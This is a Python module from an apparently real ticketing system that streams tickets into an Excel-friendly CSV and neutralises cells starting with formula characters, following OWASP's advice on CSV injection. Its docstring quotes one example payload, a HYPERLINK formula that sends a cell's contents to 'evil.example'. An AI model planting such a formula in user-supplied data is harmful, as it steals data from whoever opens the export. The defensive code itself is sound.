"""CSV export of every ticket in a period, streamed: a million tickets never sit in memory.

Excel opens the file with umlauts intact: UTF-8 with a byte-order mark, and the list
separator Excel expects for the language (`;` in German, `,` in English).

A spreadsheet runs a cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage
return as a formula: a reporter's title
`=HYPERLINK("https://evil.example/?d="&C2,"Details")` would send the admin's data away
when they open the export. Following OWASP's advice on CSV injection, every such cell of
text a person wrote is prefixed with `'`, which spreadsheets show as text, and every cell
is quoted.
"""

from __future__ import annotations

import csv
from collections.abc import Iterator
from datetime import datetime
from typing import IO

from sqlalchemy import select
from sqlalchemy.orm import Session, aliased

from flashticket_core.adapters.tables import Person
from flashticket_core.domain.model import Ticket
from flashticket_core.i18n import Language

COLUMNS = (
    "id",
    "title",
    "description",
    "status",
    "priority",
    "reporter_id",
    "reporter_name",
    "assignee_id",
    "assignee_name",
    "created_at",
    "updated_at",
    "first_response_at",
    "resolved_at",
    "closed_at",
    "rating",
    "version",
)
BATCH = 1000

# OWASP's list, plus the full-width forms some spreadsheets also read as formulas.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def neutralise(cell: str) -> str:
    """A cell a spreadsheet shows as the text it is, never runs as a formula."""
    return "'" + cell if cell.startswith(FORMULA_TRIGGERS) else cell


def ticket_rows(
    session: Session, *, since: datetime | None, until: datetime | None
) -> Iterator[list[str]]:
    """Live tickets created in [since, until), oldest first, one row at a time, with the
    names their reporter and assignee were last seen with (empty where unknown).

    Plain rows, not ORM objects: nothing enters the session, so memory stays flat."""
    reporter, assignee = aliased(Person), aliased(Person)
    query = (
        select(
            Ticket.id,
            Ticket.title,
            Ticket.description,
            Ticket.status,
            Ticket.priority,
            Ticket.reporter_id,
            reporter.name,
            Ticket.assignee_id,
            assignee.name,
            Ticket.created_at,
            Ticket.updated_at,
            Ticket.first_response_at,
            Ticket.resolved_at,
            Ticket.closed_at,
            Ticket.rating,
            Ticket.version,
        )
        .outerjoin(reporter, reporter.user_id == Ticket.reporter_id)
        .outerjoin(assignee, assignee.user_id == Ticket.assignee_id)
        .where(Ticket.deleted_at.is_(None))
        .order_by(Ticket.id)
    )
    if since is not None:
        query = query.where(Ticket.created_at >= since)
    if until is not None:
        query = query.where(Ticket.created_at < until)
    result = session.execute(query.execution_options(stream_results=True, yield_per=BATCH))
    for row in result:
        yield [
            str(row.id),
            neutralise(row.title),
            neutralise(row.description),
            row.status.value,
            row.priority.value,
            row.reporter_id,
            neutralise(row[6] or ""),
            row.assignee_id or "",
            neutralise(row[8] or ""),
            _iso(row.created_at),
            _iso(row.updated_at),
            _iso(row.first_response_at),
            _iso(row.resolved_at),
            _iso(row.closed_at),
            "" if row.rating is None else str(row.rating),
            str(row.version),
        ]


def write_csv(rows: Iterator[list[str]], out: IO[str], language: Language) -> int:
    """Write the header and the rows; returns how many tickets were written."""
    out.write("\ufeff")
    writer = csv.writer(
        out, delimiter=";" if language is Language.DE else ",", quoting=csv.QUOTE_ALL
    )
    writer.writerow(COLUMNS)
    count = 0
    for row in rows:
        writer.writerow(row)
        count += 1
    return count


def _iso(value: datetime | None) -> str:
    return "" if value is None else value.strftime("%Y-%m-%d %H:%M:%S")
